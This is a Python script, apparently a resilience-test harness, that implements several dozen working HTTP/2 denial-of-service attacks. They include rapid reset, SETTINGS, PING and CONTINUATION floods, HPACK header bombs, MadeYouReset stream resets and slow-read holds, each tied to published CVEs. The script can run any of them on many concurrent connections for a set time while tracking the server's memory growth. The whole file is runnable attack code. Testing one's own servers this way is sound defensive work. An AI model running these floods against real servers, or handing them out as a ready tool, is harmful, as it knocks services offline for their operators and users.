"""Attacks on an HTTP/2 server, each on connections of its own.

    attacks.py NAME HOST:PORT [--connections N] [--pid PID]
        attacks once on N connections and prints as JSON what became of them, and how much the
        process PID grew meanwhile
    attacks.py NAME HOST:PORT [--connections N] --seconds S
        attacks again and again for that long, on a new connection whenever one is closed

The server answers `/ok` by itself, holds requests for `/hold` for ever, and `/big` has a body
that is larger than all buffers on its way.
"""

import argparse
import json
import struct
import threading
import time

from wire import *

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def streams(count, first=1):
    return range(first, first + 2 * count, 2)


BUILT = {}


def built(make):
    """Bytes that are the same every time are made once."""
    if make.__code__ not in BUILT:
        BUILT[make.__code__] = make()
    return BUILT[make.__code__]


def flood(peer, make, count=1):
    """Sends bytes over and over until the server ends the connection."""
    peer.send_while_welcome(built(make), count)


def provoke(peer, make):
    """Has the server reset one stream after the other, never more at once than it allows."""
    for start in range(1, 40000, 40):
        peer.send(b"".join(make(n) for n in streams(20, start)))
        if not peer.wait(lambda: peer.goaway or peer.has_answer(start + 38)) or peer.goaway:
            return


def hold(peer, stream=1, more=b""):
    """Opens a stream that stays open on both sides."""
    peer.send(headers(stream, request("/hold", "POST"), END_HEADERS) + more)


# Many cheap frames


@attack
def rapid_reset(peer):
    """Requests that are given up as soon as they are made (CVE-2023-44487)."""
    flood(peer, lambda: b"".join(
        headers(n, request("/hold")) + reset(n) for n in streams(20000)))


@attack
def rapid_reset_of_answered(peer):
    """The same with requests that the server answers by itself."""
    flood(peer, lambda: b"".join(
        headers(n, request("/ok")) + reset(n) for n in streams(20000)))


@attack
def settings_flood(peer):
    """SETTINGS, each of which has to be acknowledged (CVE-2019-9515)."""
    flood(peer, lambda: settings((4, 65535)) * 1000, 100)


@attack
def settings_acknowledgements(peer):
    """Acknowledgements of nothing."""
    flood(peer, lambda: frame(SETTINGS, ACK) * 1000, 100)


@attack
def ping_flood(peer):
    """PINGs, each of which has to be answered (CVE-2019-9512)."""
    flood(peer, lambda: ping() * 1000, 100)


@attack
def ping_flood_unread(peer):
    """The same from a client that never reads the answers."""
    data = ping() * 1000
    peer.socket.settimeout(0.5)
    try:
        for _ in range(200):
            if not peer.send(data):
                break
    except (TimeoutError, OSError):
        pass
    peer.socket.settimeout(PATIENCE)


@attack
def priority_flood(peer):
    """Priorities that change all the time (CVE-2019-9513)."""
    flood(peer, lambda: b"".join(
        frame(PRIORITY, 0, n, struct.pack(">LB", 0, n & 255)) for n in streams(1000, 3)), 100)


@attack
def priority_update_flood(peer):
    """The same with the frames of RFC 9218."""
    flood(peer, lambda: frame(PRIORITY_UPDATE, 0, 0, struct.pack(">L", 1) + b"u=1") * 1000, 100)


@attack
def window_update_flood(peer):
    """Windows that grow by a byte at a time."""
    flood(peer, lambda: window_update(0, 1) * 1000, 100)


@attack
def stream_window_update_flood(peer):
    """The same on a stream."""
    hold(peer)
    flood(peer, lambda: window_update(1, 1) * 1000, 100)


@attack
def empty_data_flood(peer):
    """DATA without data and without an end (CVE-2019-9518)."""
    hold(peer)
    flood(peer, lambda: frame(DATA, 0, 1) * 1000, 100)


@attack
def padding_flood(peer):
    """DATA that is nothing but padding."""
    hold(peer)
    flood(peer, lambda: frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 100, 100)


@attack
def empty_headers_flood(peer):
    """HEADERS without a field, each on a stream of its own."""
    flood(peer, lambda: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, n) for n in streams(20000)))


@attack
def unknown_frame_flood(peer):
    """Frames of a type that nobody knows."""
    flood(peer, lambda: frame(0xbe, 0, 0, b"x") * 1000, 100)


@attack
def goaway_flood(peer):
    """GOAWAY over and over."""
    flood(peer, lambda: frame(GOAWAY, 0, 0, struct.pack(">LL", 0, 0)) * 1000, 100)


# Heads


@attack
def continuation_flood(peer):
    """A head that never ends (CVE-2024-27316)."""
    peer.send(frame(HEADERS, END_STREAM, 1, block(request())))
    flood(peer, lambda: frame(CONTINUATION, 0, 1, literal("x-more", "y" * 1000)) * 10, 2000)


@attack
def empty_continuation_flood(peer):
    """The same with frames that are empty (CVE-2019-9518)."""
    peer.send(frame(HEADERS, END_STREAM, 1, block(request())))
    flood(peer, lambda: frame(CONTINUATION, 0, 1) * 1000, 100)


def bomb(stream, references):
    """A head that names one large entry of the table many times (CVE-2016-6581)."""
    # The entry is the newest of the dynamic table, index 62.
    fields = block(request()) + b"\x40" + literal("x-bomb", "b" * 4000)[1:] + b"\xbe" * references
    return headers(stream, fields)


@attack
def header_bomb(peer):
    """16 KiB of HPACK that stand for 50 MB of fields."""
    flood(peer, lambda: b"".join(bomb(n, 12000) for n in streams(50)))


@attack
def small_header_bombs(peer):
    """Heads just above the limit, over and over."""
    flood(peer, lambda: b"".join(bomb(n, 12) for n in streams(5000)))


@attack
def giant_header_list(peer):
    """A head of 240 KiB in 16 frames, without compression."""
    pad = literal("x-large", "l" * 7000) * 2
    peer.send_while_welcome(
        frame(HEADERS, END_STREAM, 1, block(request()) + pad)
        + frame(CONTINUATION, 0, 1, pad) * 15 + frame(CONTINUATION, END_HEADERS, 1, pad), 1)


# Streams that the server is made to reset ("MadeYouReset", CVE-2025-8671)


@attack
def reset_by_window_overflow(peer):
    """A stream's window that grows beyond what is allowed."""
    provoke(peer, lambda n: headers(n, request("/hold")) + window_update(n, 0x7fffffff))


@attack
def reset_by_long_body(peer):
    """More DATA than content-length says."""
    provoke(peer, lambda n: headers(
        n, request("/hold", "POST", [("content-length", "1")]), END_HEADERS)
        + frame(DATA, 0, n, b"ab"))


@attack
def reset_by_bad_trailers(peer):
    """Trailers with a pseudo-field."""
    provoke(peer, lambda n: headers(n, request("/hold", "POST"), END_HEADERS)
            + headers(n, [(":path", "/")]))


@attack
def reset_by_bad_field(peer):
    """Heads that no gateway may pass on."""
    provoke(peer, lambda n: headers(n, request(more=[("x-a", "b\r\nc: d")])))


@attack
def reset_by_connection_field(peer):
    """The same with a field that is none of HTTP/2."""
    provoke(peer, lambda n: headers(n, request(more=[("connection", "close")])))


@attack
def reset_by_empty_window_update(peer):
    """A window that grows by nothing."""
    provoke(peer, lambda n: headers(n, request("/hold")) + window_update(n, 0))


@attack
def reset_by_late_data(peer):
    """DATA after the end of the request."""
    provoke(peer, lambda n: headers(n, request("/hold")) + frame(DATA, 0, n, b"late"))


@attack
def reset_by_late_headers(peer):
    """HEADERS after the end of the request."""
    provoke(peer, lambda n: headers(n, request("/hold")) * 2)


@attack
def reset_by_self_dependency(peer):
    """A stream that depends on itself."""
    hold(peer)
    flood(peer, lambda: frame(PRIORITY, 0, 1, struct.pack(">LB", 1, 1)) * 1000, 100)


# Streams that stay


@attack
def streams_over_the_limit(peer):
    """More streams at once than allowed, from a client that has read the limit."""
    flood(peer, lambda: b"".join(headers(n, request("/hold")) for n in streams(20000)))


@attack
def streams_over_the_unread_limit(peer):
    """The same from a client that never acknowledges the limit."""
    flood(peer, lambda: b"".join(headers(n, request("/hold")) for n in streams(20000)))


streams_over_the_unread_limit.is_hasty = True


@attack
def zero_window(peer):
    """Answers that are asked for and never taken: no window is ever opened (slow read)."""
    peer.send(settings((4, 0)) + b"".join(headers(n, request("/big")) for n in streams(100)))
    peer.wait(lambda: all(peer.has_answer(n) for n in streams(100)))


@attack
def dripping_window(peer):
    """A window of a byte at a time, which is progress, but none that pays."""
    peer.send(settings((4, 0)) + headers(1, request("/big")))
    peer.send_while_welcome(window_update(1, 1), 100000)


@attack
def unread_answers(peer):
    """The windows are wide open, but nothing is read off the socket."""
    peer.send(
        settings((4, 0x7fffffff)) + window_update(0, 0x7fff0000 - 65535)
        + b"".join(headers(n, request("/big")) for n in streams(100)))
    # So long is nothing read; what was sent until then is looked at after that.
    time.sleep(3)
    peer.wait(lambda: all(peer.has_answer(n) for n in streams(100)))


@attack
def idle_bodies(peer):
    """Requests whose bodies never come."""
    peer.send(b"".join(headers(n, request("/hold", "POST"), END_HEADERS) for n in streams(100)))
    peer.wait(lambda: all(peer.has_answer(n) for n in streams(100)))


zero_window.stays = idle_bodies.stays = True


@attack
def slow_headers(peer):
    """A head that comes a byte at a time."""
    data = headers(1, request())
    peer.send(data[:20])
    for byte in data[20:]:
        peer.wait(lambda: peer.goaway or peer.is_closed, 0.1)
        if peer.goaway or peer.is_closed or not peer.send(bytes([byte])):
            break


@attack
def slow_continuations(peer):
    """A head whose frames keep coming, slowly."""
    peer.send(frame(HEADERS, END_STREAM, 1, block(request())))
    for _ in range(100):
        peer.wait(lambda: peer.goaway or peer.is_closed, 0.2)
        if peer.goaway or peer.is_closed:
            break
        peer.send(frame(CONTINUATION, 0, 1, literal("x-more", "y")))


@attack
def half_preface(peer):
    """The first half of the preface, and silence."""


half_preface.opening = PREFACE[:12]


@attack
def bare_preface(peer):
    """The preface without the SETTINGS that belong to it."""


bare_preface.opening = PREFACE
half_preface.is_hasty = bare_preface.is_hasty = True


# Running them


class Growth(threading.Thread):
    """Watches the memory of a process while the attack goes on."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.peak = self.before = self.now()
        self.is_over = threading.Event()

    def now(self):
        with open(f"/proc/{self.pid}/smaps_rollup") as text:
            return next(int(line.split()[1]) for line in text if line.startswith("Pss_Anon:"))

    def run(self):
        while not self.is_over.wait(0.02):
            self.peak = max(self.peak, self.now())

    def finish(self):
        self.is_over.set()
        self.join()
        return max(self.peak, self.now()) - self.before


def play(name, address):
    """Connects, attacks until the server has had enough, and returns what came of it."""
    function = ATTACKS[name]
    peer = Peer(address, getattr(function, "opening", PREFACE + settings()))
    if hasattr(function, "is_hasty"):
        peer.acknowledge = False
    else:
        # Both sides' settings hold; nothing is sent by itself any more.
        peer.wait(lambda: len(peer.of(SETTINGS)) >= 2)
    function(peer)
    return peer


def run_once(name, address, outcomes=None):
    peer = play(name, address)
    closed = not hasattr(ATTACKS[name], "stays") and peer.wait_for_end()
    resets = [code_name(struct.unpack(">L", f.payload)[0]) for f in peer.of(RST_STREAM)]
    try:
        statuses = [head[":status"] for heads in peer.heads().values() for head in heads]
    except hpack.HPACKError:
        statuses = ["undecodable"]
    outcome = {
        "goaway": peer.goaway, "isClosed": closed,
        "resets": {code: resets.count(code) for code in set(resets)},
        "statuses": {status: statuses.count(status) for status in set(statuses)},
    }
    peer.close()
    if outcomes is not None:
        outcomes.append(outcome)


def run_many(name, address, connections, pid):
    growth = Growth(pid) if pid else None
    if growth:
        growth.start()
    outcomes = []
    threads = [
        threading.Thread(target=run_once, args=(name, address, outcomes))
        for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"outcomes": outcomes, "growth": growth.finish() if growth else 0}))


def sustain(name, address, seconds, connections):
    end = time.monotonic() + seconds

    def attack_on():
        while time.monotonic() < end:
            try:
                peer = play(name, address)
                if not hasattr(ATTACKS[name], "stays"):
                    peer.wait_for_end()
                peer.close()
            except OSError:
                pass

    threads = [threading.Thread(target=attack_on) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("address", type=parse_address)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--pid", type=int)
    parser.add_argument("--seconds", type=float)
    options = parser.parse_args()
    if options.seconds:
        sustain(options.name, options.address, options.seconds, options.connections)
    else:
        run_many(options.name, options.address, options.connections, options.pid)


main()
